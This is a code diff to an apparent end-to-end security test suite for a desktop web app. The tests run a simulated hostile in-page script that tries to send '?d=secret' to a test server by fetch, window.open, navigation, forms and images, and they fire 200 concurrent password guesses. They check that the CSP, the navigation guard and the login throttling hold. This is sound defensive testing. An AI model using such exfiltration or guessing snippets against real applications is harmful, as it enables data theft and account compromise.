@@ -8,10 +8,11 @@ import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import type { WebDriver } from 'selenium-webdriver';
-import { inPage, invokeInPage, launchApp, type Settled } from './app';
+import { inPage, invokeInPage, launchApp, logLines, type Settled } from './app';
 
 let driver: WebDriver;
 const data = inject('appDataDir');
+const appLog = inject('appLogFile');
 const readable = join(data, 'files');
 const accounts = join(data, 'private', 'accounts.json');
 
@@ -96,9 +97,16 @@ describe('A hostile script in the main window', () => {
   it('cannot carry data off: navigation, forms, fetch, images and new windows all stay home', async () => {
     const before = await driver.getCurrentUrl();
     const handles = (await driver.getAllWindowHandles()).length;
+    // Each attempt is judged only once what refuses it has answered: the page's CSP (its
+    // violation reports) and the navigation guard (its log line, by origin). `window.open` and
+    // the anchor are refused at once, in the page (no user gesture: WebKit opens no window).
+    const refusals = () => logLines(appLog, `refused to navigate to ${serverUrl}`).length;
+    const navigations = refusals();
     const attempts = await inPage<Record<string, string>>(
       driver,
       `const url = args[0] + '/?d=secret';
+       window.__violations = [];
+       document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective));
        const outcome = {};
        outcome.fetch = await fetch(url).then(() => 'sent', () => 'refused');
        outcome.open = String(window.open(url));
@@ -112,13 +120,19 @@ describe('A hostile script in the main window', () => {
        outcome.frozen = String(Object.isFrozen(Object.prototype));
        try { eval('1 + 1'); outcome.eval = 'ran'; } catch (e) { outcome.eval = e.name; }
        location.href = url;
-       await new Promise((r) => setTimeout(r, 300));
-       window.location.assign(url + '&assign');
        return outcome;`,
       serverUrl,
     );
     expect(attempts).toMatchObject({ fetch: 'refused', open: 'null', frozen: 'true', eval: 'EvalError' });
-    await new Promise((resolve) => setTimeout(resolve, 1500));
+    const violations = () => driver.executeScript<string[]>('return window.__violations;');
+    await driver.wait(async () => {
+      const seen = await violations();
+      return ['connect-src', 'form-action', 'img-src'].every((directive) => seen.some((v) => v.startsWith(directive)));
+    }, 10_000);
+    await driver.wait(async () => refusals() === navigations + 1, 10_000);
+    // A second navigation, once the first was refused (so that it cannot cancel the first).
+    await driver.executeScript('window.location.assign(arguments[0] + "/?d=secret&assign");', serverUrl);
+    await driver.wait(async () => refusals() === navigations + 2, 10_000);
     expect(await driver.getCurrentUrl()).toBe(before);
     expect(await driver.getAllWindowHandles()).toHaveLength(handles);
     expect(requests).toEqual([]);
@@ -147,23 +161,35 @@ describe('A hostile script in the main window', () => {
   it('200 wrong sign-ins at once leave greet and an in-scope read answering within 0.5 s', async () => {
     const note = join(readable, 'security', 'note.txt');
     writeFileSync(note, 'still readable');
-    const result = await inPage<{ greetMs: number; readMs: number; read: string; kinds: Record<string, number> }>(
+    // greet, then the read, over and over for as long as the guesses are in flight. The promise is
+    // the median (one call a busy 2-core machine held up does not break it), with a generous cap on
+    // the slowest; waiting behind the hashes would make most calls take seconds.
+    const result = await inPage<{ greetMs: number[]; readMs: number[]; reads: string[]; kinds: Record<string, number> }>(
       driver,
-      `const guesses = Array.from({ length: 200 }, (_, i) =>
-         invoke('login', { user: 'tauri', password: 'guess-' + i }).then(() => 'accepted', (e) => e.kind));
-       const t0 = performance.now();
-       await invoke('greet', { name: 'x' });
-       const t1 = performance.now();
-       const read = await invoke('read_file', { path: args[0] });
-       const t2 = performance.now();
+      `let settled = false;
+       const guesses = Promise.all(Array.from({ length: 200 }, (_, i) =>
+         invoke('login', { user: 'tauri', password: 'guess-' + i }).then(() => 'accepted', (e) => e.kind)));
+       guesses.then(() => (settled = true));
+       const greetMs = [], readMs = [], reads = [];
+       do {
+         const t0 = performance.now();
+         await invoke('greet', { name: 'x' });
+         const t1 = performance.now();
+         reads.push(await invoke('read_file', { path: args[0] }));
+         greetMs.push(t1 - t0);
+         readMs.push(performance.now() - t1);
+       } while (!settled && greetMs.length < 100);
        const kinds = {};
-       for (const kind of await Promise.all(guesses)) kinds[kind] = (kinds[kind] ?? 0) + 1;
-       return { greetMs: t1 - t0, readMs: t2 - t1, read, kinds };`,
+       for (const kind of await guesses) kinds[kind] = (kinds[kind] ?? 0) + 1;
+       return { greetMs, readMs, reads, kinds };`,
       note,
     );
-    expect(result.read).toBe('still readable');
-    expect(result.greetMs).toBeLessThan(500);
-    expect(result.readMs).toBeLessThan(500);
+    const median = (ms: number[]) => [...ms].sort((a, b) => a - b)[Math.floor(ms.length / 2)];
+    console.info(`under 200 sign-ins, ${result.greetMs.length} rounds: greet ${median(result.greetMs)} ms (median), read ${median(result.readMs)} ms`);
+    expect(result.reads.every((text) => text === 'still readable')).toBe(true);
+    expect(median(result.greetMs)).toBeLessThan(500);
+    expect(median(result.readMs)).toBeLessThan(500);
+    expect(Math.max(...result.greetMs, ...result.readMs)).toBeLessThan(2000);
     // A few guesses were checked; the rest were refused as busy without hashing.
     expect(result.kinds.accepted).toBeUndefined();
     expect(result.kinds.unauthorized).toBeLessThanOrEqual(4);
